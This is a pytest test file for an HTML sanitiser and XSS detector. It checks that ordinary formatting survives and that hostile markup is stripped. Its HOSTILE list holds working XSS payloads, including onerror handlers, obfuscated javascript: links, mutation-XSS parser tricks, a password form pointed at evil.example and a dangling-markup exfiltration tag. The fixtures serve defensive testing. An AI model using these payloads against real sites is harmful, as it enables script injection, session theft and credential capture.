"""Rich text: what shapes text stays as it is, what runs or mutates goes."""

from __future__ import annotations

import pytest

from vallum.inspection.detectors.xss import DETECTOR
from vallum.inspection.model import Context
from vallum.inspection.sanitise import ELEMENTS, sanitise_html

GOOD = (
    "Plain words, and nothing else.",
    "<p>One <b>bold</b> and one <em>stressed</em> word.</p>",
    "<h2>Title</h2><p>Text<br>over two lines</p><hr>",
    '<ul><li>one</li><li>two</li></ul><ol start="3"><li>three</li></ol>',
    '<blockquote cite="https://example.com/"><p>quoted</p></blockquote>',
    "<pre><code>if (a &lt; b &amp;&amp; c) { alert(1); }</code></pre>",
    (
        '<table><thead><tr><th scope="col">a</th></tr></thead>'
        '<tbody><tr><td colspan="2">b</td></tr></tbody></table>'
    ),
    '<p lang="de" dir="ltr">Größe &amp; Maß</p>',
    '<img src="https://example.com/x.png" alt="a cat">',
    "<p>日本語 <ruby>漢<rt>かん</rt></ruby></p>",
)
HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><p>x</p></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<p style="width:expression(alert(1))">x</p>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    '<form action="https://evil.example"><input name="password"></form>',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=//evil">',
    (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
        'onerror=alert(1)&gt;">'
    ),
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<svg><p><style><g title="</style><img src=x onerror=alert(1)>">',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>">',
    '<template><p title="</template><img src=x onerror=alert(1)>">',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<!--><img src=x onerror=alert(1)>-->",
    "<b><![CDATA[<img src=x onerror=alert(1)>]]></b>",
    "<<script>alert(1)//<</script>",
    "<img src='https://evil.example/log?",
    '<p id="location" name="cookie" class="admin">x</p>',
)


@pytest.mark.parametrize("text", GOOD)
def test_good_rich_text_stays_as_it_is(text: str) -> None:
    assert sanitise_html(text) == text


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("a < b", "a &lt; b"),
        ("a&#13;b&#x0D;&#10;c", "a\nb\nc"),
        ("<P>One", "<p>One</p>"),
        ('<a href="https://example.com/">x</a>',
         '<a href="https://example.com/" rel="noopener">x</a>'),
        ('<a href="mailto:a@example.com" target="_top">x</a>',
         '<a href="mailto:a@example.com" rel="noopener">x</a>'),
        ('<a href="/books/1">x</a>', '<a href="/books/1" rel="noopener">x</a>'),
        ('<a href="ftp://example.com/">x</a>', '<a rel="noopener">x</a>'),
        ('<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">', '<img alt="x">'),
        ("<p onclick='x()' style='color:red'>x</p>", "<p>x</p>"),
        ("<center>x</center>", "x"),
    ],
)  # fmt: skip
def test_equivalent(text: str, safe: str) -> None:
    assert sanitise_html(text) == safe


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_active_is_left(text: str) -> None:
    safe = sanitise_html(text)
    found = DETECTOR.judge(safe, Context("body", "note", "html"))

    assert found is None or found.score < 3
    for trace in ("onerror=alert(1)>", "<script", "javascript:", "<style", "<svg", "id=", "class="):
        assert trace not in safe


@pytest.mark.parametrize("text", GOOD + HOSTILE)
def test_a_second_time_changes_nothing(text: str) -> None:
    safe = sanitise_html(text)

    assert sanitise_html(safe) == safe


def test_no_element_stays_that_changes_how_the_rest_is_parsed() -> None:
    parsed_otherwise = {"style", "script", "noscript", "textarea", "title", "svg", "math", "form"}
    parsed_otherwise |= {"template", "select", "xmp", "iframe", "plaintext", "noembed", "noframes"}

    assert not ELEMENTS & parsed_otherwise


@pytest.mark.parametrize("depth", [1, 2, 8, 200])
def test_what_goes_on_reads_as_itself_however_it_is_misnested(depth: int) -> None:
    """A table in a link puts what is in it elsewhere, and the next reading closes the link."""
    for text in (
        "<a><table>" * depth + "<a>",
        "<h1><table><h1>" * depth,
        "<li><table><li>" * depth,
    ):
        safe = sanitise_html(text)
        assert sanitise_html(safe) == safe
